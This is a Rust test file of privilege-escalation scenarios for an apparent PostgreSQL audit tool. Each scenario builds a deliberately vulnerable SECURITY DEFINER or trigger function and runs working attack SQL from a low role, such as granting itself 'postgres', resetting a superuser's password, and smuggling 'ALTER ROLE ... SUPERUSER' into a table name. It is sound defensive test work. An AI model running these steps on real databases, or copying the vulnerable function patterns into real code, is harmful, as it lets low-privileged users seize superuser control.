//! Definer functions with names of their callers in what they execute, and trigger functions that anybody may put on a table.

use pgward_audit::paths::graph::Sink;
use pgward_audit::paths::mechanism::Mechanism;
use pgward_audit::rule::Versions;

use crate::scenario::{Act, Claim, End, NONE, Scenario};

pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "definer_grants",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Sink(Sink::Superuser)),
        from: End::Role("definer_grants_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_grants_low;
            CREATE SCHEMA definer_grants; GRANT USAGE ON SCHEMA definer_grants TO definer_grants_low;
            CREATE FUNCTION definer_grants.f(u name, r name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('GRANT %I TO %I', r, u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_grants.f(name, name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_grants.f(name, name) TO definer_grants_low;
        "#,
        acts: &[
            Act::Low("definer_grants_low", r#"SELECT definer_grants.f('definer_grants_low', 'postgres')"#),
            Act::Low("definer_grants_low", r#"SET ROLE postgres; ALTER ROLE definer_grants_low SUPERUSER"#),
            Act::IsSuperuser("definer_grants_low"),
        ],
    },
    Scenario {
        name: "definer_grants_kept",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Sink(Sink::Superuser)),
        from: End::Role("definer_grants_kept_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_grants_kept_low;
            CREATE SCHEMA definer_grants_kept; GRANT USAGE ON SCHEMA definer_grants_kept TO definer_grants_kept_low;
            CREATE FUNCTION definer_grants_kept.f(u name, r name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('GRANT %I TO %I', r, u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_grants_kept.f(name, name) FROM PUBLIC;
        "#,
        acts: &[
            Act::Low(
                "definer_grants_kept_low",
                r#"SELECT definer_grants_kept.f('definer_grants_kept_low', 'postgres')"#,
            ),
            Act::IsSuperuser("definer_grants_kept_low"),
        ],
    },
    Scenario {
        name: "definer_grants_one",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Sink(Sink::Superuser)),
        from: End::Role("definer_grants_one_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_grants_one_low;
            CREATE SCHEMA definer_grants_one; GRANT USAGE ON SCHEMA definer_grants_one TO definer_grants_one_low;
            CREATE FUNCTION definer_grants_one.f(u name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('GRANT pg_monitor TO %I', u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_grants_one.f(name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_grants_one.f(name) TO definer_grants_one_low;
        "#,
        acts: &[
            Act::Low("definer_grants_one_low", r#"SELECT definer_grants_one.f('definer_grants_one_low')"#),
            Act::IsSuperuser("definer_grants_one_low"),
        ],
    },
    Scenario {
        name: "definer_createrole",
        claim: Claim::Edge(Mechanism::DefinerNames, End::AnyPlainRole),
        from: End::Role("definer_createrole_low"),
        own_database: false,
        applies: Versions::until(15),
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_createrole_low;
            CREATE SCHEMA definer_createrole; GRANT USAGE ON SCHEMA definer_createrole TO definer_createrole_low;
            CREATE FUNCTION definer_createrole.f(u name, r name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('GRANT %I TO %I', r, u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_createrole.f(name, name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_createrole.f(name, name) TO definer_createrole_low;
            CREATE ROLE definer_createrole_owner CREATEROLE; CREATE ROLE definer_createrole_other; GRANT USAGE ON SCHEMA definer_createrole TO definer_createrole_owner; ALTER FUNCTION definer_createrole.f(name, name) OWNER TO definer_createrole_owner;
        "#,
        acts: &[
            Act::Low(
                "definer_createrole_low",
                "SELECT definer_createrole.f('definer_createrole_low', 'definer_createrole_other')",
            ),
            Act::LowSees(
                "definer_createrole_low",
                "SET ROLE definer_createrole_other; SELECT current_user",
                "definer_createrole_other",
            ),
        ],
    },
    Scenario {
        name: "definer_admin",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Role("definer_admin_other")),
        from: End::Role("definer_admin_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_admin_low;
            CREATE SCHEMA definer_admin; GRANT USAGE ON SCHEMA definer_admin TO definer_admin_low;
            CREATE FUNCTION definer_admin.f(u name, r name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('GRANT %I TO %I', r, u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_admin.f(name, name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_admin.f(name, name) TO definer_admin_low;
            CREATE ROLE definer_admin_owner; CREATE ROLE definer_admin_other; GRANT definer_admin_other TO definer_admin_owner WITH ADMIN OPTION; GRANT USAGE ON SCHEMA definer_admin TO definer_admin_owner; ALTER FUNCTION definer_admin.f(name, name) OWNER TO definer_admin_owner;
        "#,
        acts: &[
            Act::Low(
                "definer_admin_low",
                "SELECT definer_admin.f('definer_admin_low', 'definer_admin_other')",
            ),
            Act::LowSees(
                "definer_admin_low",
                "SET ROLE definer_admin_other; SELECT current_user",
                "definer_admin_other",
            ),
        ],
    },
    Scenario {
        name: "definer_no_admin",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Role("definer_no_admin_other")),
        from: End::Role("definer_no_admin_low"),
        own_database: false,
        applies: Versions::from(16),
        works: NONE,
        scene: r#"
            LOGIN definer_no_admin_low;
            CREATE SCHEMA definer_no_admin; GRANT USAGE ON SCHEMA definer_no_admin TO definer_no_admin_low;
            CREATE FUNCTION definer_no_admin.f(u name, r name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('GRANT %I TO %I', r, u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_no_admin.f(name, name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_no_admin.f(name, name) TO definer_no_admin_low;
            CREATE ROLE definer_no_admin_owner CREATEROLE; CREATE ROLE definer_no_admin_other; GRANT USAGE ON SCHEMA definer_no_admin TO definer_no_admin_owner; ALTER FUNCTION definer_no_admin.f(name, name) OWNER TO definer_no_admin_owner;
        "#,
        acts: &[
            Act::Low(
                "definer_no_admin_low",
                "SELECT definer_no_admin.f('definer_no_admin_low', 'definer_no_admin_other')",
            ),
            Act::LowSees(
                "definer_no_admin_low",
                "SET ROLE definer_no_admin_other; SELECT current_user",
                "definer_no_admin_other",
            ),
        ],
    },
    Scenario {
        name: "definer_password",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Sink(Sink::Superuser)),
        from: End::Role("definer_password_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_password_low;
            CREATE SCHEMA definer_password; GRANT USAGE ON SCHEMA definer_password TO definer_password_low;
            CREATE FUNCTION definer_password.f(u name, p text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', u, p); END $$;
            REVOKE EXECUTE ON FUNCTION definer_password.f(name, text) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_password.f(name, text) TO definer_password_low;
            CREATE ROLE definer_password_root SUPERUSER LOGIN PASSWORD 'of its own';
        "#,
        acts: &[
            Act::Low(
                "definer_password_low",
                r#"SELECT definer_password.f('definer_password_root', 'known')"#,
            ),
            Act::Low("definer_password_root", r#"ALTER ROLE definer_password_low SUPERUSER"#),
            Act::IsSuperuser("definer_password_low"),
        ],
    },
    Scenario {
        name: "definer_owner",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Sink(Sink::Superuser)),
        from: End::Role("definer_owner_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_owner_low;
            CREATE SCHEMA definer_owner; GRANT USAGE ON SCHEMA definer_owner TO definer_owner_low;
            CREATE FUNCTION definer_owner.f(s name, t name, u name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('ALTER TABLE %I.%I OWNER TO %I', s, t, u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_owner.f(name, name, name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_owner.f(name, name, name) TO definer_owner_low;
            CREATE SCHEMA definer_owner_own AUTHORIZATION definer_owner_low;
        "#,
        acts: &[
            Act::Low(
                "definer_owner_low",
                r#"CREATE VIEW definer_owner_own.v AS SELECT rolname, rolsuper FROM pg_authid; GRANT SELECT, UPDATE ON definer_owner_own.v TO PUBLIC; SELECT definer_owner.f('definer_owner_own', 'v', 'postgres')"#,
            ),
            Act::Low(
                "definer_owner_low",
                r#"UPDATE definer_owner_own.v SET rolsuper = true WHERE rolname = 'definer_owner_low'"#,
            ),
            Act::IsSuperuser("definer_owner_low"),
        ],
    },
    Scenario {
        name: "definer_reads",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Sink(Sink::AllRead)),
        from: End::Role("definer_reads_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_reads_low;
            CREATE SCHEMA definer_reads; GRANT USAGE ON SCHEMA definer_reads TO definer_reads_low;
            CREATE FUNCTION definer_reads.f(t name, u name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('GRANT SELECT ON definer_reads.%I TO %I', t, u); END $$;
            REVOKE EXECUTE ON FUNCTION definer_reads.f(name, name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_reads.f(name, name) TO definer_reads_low;
            CREATE TABLE definer_reads.secret (v text); INSERT INTO definer_reads.secret VALUES ('hidden');
        "#,
        acts: &[
            Act::Low("definer_reads_low", r#"SELECT definer_reads.f('secret', 'definer_reads_low')"#),
            Act::LowSees("definer_reads_low", "SELECT v FROM definer_reads.secret", "hidden"),
        ],
    },
    Scenario {
        name: "definer_set_role",
        claim: Claim::Edge(Mechanism::DefinerNames, End::Sink(Sink::Superuser)),
        from: End::Role("definer_set_role_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_set_role_low;
            CREATE SCHEMA definer_set_role; GRANT USAGE ON SCHEMA definer_set_role TO definer_set_role_low;
            CREATE FUNCTION definer_set_role.f(r name) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('SET ROLE %I', r); END $$;
            REVOKE EXECUTE ON FUNCTION definer_set_role.f(name) FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_set_role.f(name) TO definer_set_role_low;
        "#,
        acts: &[
            Act::Low(
                "definer_set_role_low",
                r#"SELECT definer_set_role.f('postgres'); ALTER ROLE definer_set_role_low SUPERUSER"#,
            ),
            Act::IsSuperuser("definer_set_role_low"),
        ],
    },
    Scenario {
        name: "definer_trigger",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Sink(Sink::Superuser)),
        from: End::Role("definer_trigger_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_trigger_low;
            CREATE SCHEMA definer_trigger; GRANT USAGE ON SCHEMA definer_trigger TO definer_trigger_low; CREATE TABLE definer_trigger.log (v text);
            CREATE FUNCTION definer_trigger.f() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE TG_ARGV[0]; RETURN NEW; END $$;
            REVOKE EXECUTE ON FUNCTION definer_trigger.f() FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_trigger.f() TO definer_trigger_low;
        "#,
        acts: &[
            Act::Low(
                "definer_trigger_low",
                r#"CREATE TEMP TABLE own (v int); CREATE TRIGGER x BEFORE INSERT ON own FOR EACH ROW EXECUTE FUNCTION definer_trigger.f('ALTER ROLE definer_trigger_low SUPERUSER'); INSERT INTO own VALUES (1)"#,
            ),
            Act::IsSuperuser("definer_trigger_low"),
        ],
    },
    Scenario {
        name: "definer_trigger_kept",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Sink(Sink::Superuser)),
        from: End::Role("definer_trigger_kept_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_trigger_kept_low;
            CREATE SCHEMA definer_trigger_kept; GRANT USAGE ON SCHEMA definer_trigger_kept TO definer_trigger_kept_low; CREATE TABLE definer_trigger_kept.log (v text);
            CREATE FUNCTION definer_trigger_kept.f() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE TG_ARGV[0]; RETURN NEW; END $$;
            REVOKE EXECUTE ON FUNCTION definer_trigger_kept.f() FROM PUBLIC;
        "#,
        acts: &[
            Act::Low(
                "definer_trigger_kept_low",
                r#"CREATE TEMP TABLE own (v int); CREATE TRIGGER x BEFORE INSERT ON own FOR EACH ROW EXECUTE FUNCTION definer_trigger_kept.f('ALTER ROLE definer_trigger_kept_low SUPERUSER'); INSERT INTO own VALUES (1)"#,
            ),
            Act::IsSuperuser("definer_trigger_kept_low"),
        ],
    },
    Scenario {
        name: "definer_trigger_nowhere",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Sink(Sink::Superuser)),
        from: End::Role("definer_trigger_nowhere_low"),
        own_database: true,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_trigger_nowhere_low;
            CREATE SCHEMA definer_trigger_nowhere; GRANT USAGE ON SCHEMA definer_trigger_nowhere TO definer_trigger_nowhere_low; CREATE TABLE definer_trigger_nowhere.log (v text);
            CREATE FUNCTION definer_trigger_nowhere.f() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE TG_ARGV[0]; RETURN NEW; END $$;
            REVOKE EXECUTE ON FUNCTION definer_trigger_nowhere.f() FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_trigger_nowhere.f() TO definer_trigger_nowhere_low;
            REVOKE CREATE ON SCHEMA public FROM PUBLIC; REVOKE TEMPORARY ON DATABASE definer_trigger_nowhere FROM PUBLIC;
        "#,
        acts: &[
            Act::Low(
                "definer_trigger_nowhere_low",
                r#"CREATE TEMP TABLE own (v int); CREATE TRIGGER x BEFORE INSERT ON own FOR EACH ROW EXECUTE FUNCTION definer_trigger_nowhere.f('ALTER ROLE definer_trigger_nowhere_low SUPERUSER'); INSERT INTO own VALUES (1)"#,
            ),
            Act::IsSuperuser("definer_trigger_nowhere_low"),
        ],
    },
    Scenario {
        name: "definer_trigger_name",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Sink(Sink::Superuser)),
        from: End::Role("definer_trigger_name_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN definer_trigger_name_low;
            CREATE SCHEMA definer_trigger_name; GRANT USAGE ON SCHEMA definer_trigger_name TO definer_trigger_name_low; CREATE TABLE definer_trigger_name.log (v text);
            CREATE FUNCTION definer_trigger_name.f() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE 'INSERT INTO definer_trigger_name.log VALUES (''' || TG_TABLE_NAME || ''')'; RETURN NEW; END $$;
            REVOKE EXECUTE ON FUNCTION definer_trigger_name.f() FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_trigger_name.f() TO definer_trigger_name_low;
        "#,
        acts: &[
            Act::Low(
                "definer_trigger_name_low",
                r#"CREATE TEMP TABLE "'); ALTER ROLE definer_trigger_name_low SUPERUSER--" (v int); CREATE TRIGGER x BEFORE INSERT ON "'); ALTER ROLE definer_trigger_name_low SUPERUSER--" FOR EACH ROW EXECUTE FUNCTION definer_trigger_name.f(); INSERT INTO "'); ALTER ROLE definer_trigger_name_low SUPERUSER--" VALUES (1)"#,
            ),
            Act::IsSuperuser("definer_trigger_name_low"),
        ],
    },
    Scenario {
        name: "definer_trigger_quoted",
        claim: Claim::Edge(Mechanism::DefinerDynamicSql, End::Sink(Sink::Superuser)),
        from: End::Role("definer_trigger_quoted_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN definer_trigger_quoted_low;
            CREATE SCHEMA definer_trigger_quoted; GRANT USAGE ON SCHEMA definer_trigger_quoted TO definer_trigger_quoted_low; CREATE TABLE definer_trigger_quoted.log (v text);
            CREATE FUNCTION definer_trigger_quoted.f() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE format('INSERT INTO definer_trigger_quoted.log VALUES (%L)', TG_TABLE_NAME); RETURN NEW; END $$;
            REVOKE EXECUTE ON FUNCTION definer_trigger_quoted.f() FROM PUBLIC;
            GRANT EXECUTE ON FUNCTION definer_trigger_quoted.f() TO definer_trigger_quoted_low;
        "#,
        acts: &[
            Act::Low(
                "definer_trigger_quoted_low",
                r#"CREATE TEMP TABLE "'); ALTER ROLE definer_trigger_quoted_low SUPERUSER--" (v int); CREATE TRIGGER x BEFORE INSERT ON "'); ALTER ROLE definer_trigger_quoted_low SUPERUSER--" FOR EACH ROW EXECUTE FUNCTION definer_trigger_quoted.f(); INSERT INTO "'); ALTER ROLE definer_trigger_quoted_low SUPERUSER--" VALUES (1)"#,
            ),
            Act::IsSuperuser("definer_trigger_quoted_low"),
        ],
    },
];
